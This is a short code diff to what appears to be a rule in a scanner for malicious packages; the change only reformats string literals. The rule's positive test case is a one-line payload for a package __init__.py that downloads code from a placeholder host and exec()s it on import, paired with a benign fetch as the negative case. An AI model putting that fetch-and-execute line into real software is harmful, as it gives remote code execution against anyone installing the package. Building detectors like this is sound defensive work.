@@ -26,10 +26,15 @@ RULE = Rule(
     grade=HOLD,
     find=_find,
     fires={
-        "acme/__init__.py": "import urllib.request\nexec(urllib.request.urlopen('https://example.test/x').read())\n"
+        "acme/__init__.py": (
+            "import urllib.request\nexec(urllib.request.urlopen('https://example.test/x').read())\n"
+        )
     },
     quiet={
-        "acme/__init__.py": "import json, urllib.request\n\ndef news():\n    return json.load(urllib.request.urlopen('https://example.test/x'))\n"
+        "acme/__init__.py": (
+            "import json, urllib.request\n\ndef news():\n"
+            "    return json.load(urllib.request.urlopen('https://example.test/x'))\n"
+        )
     },
     rates="36 of 2,004 malicious clusters, none of 200 popular archives",
 )
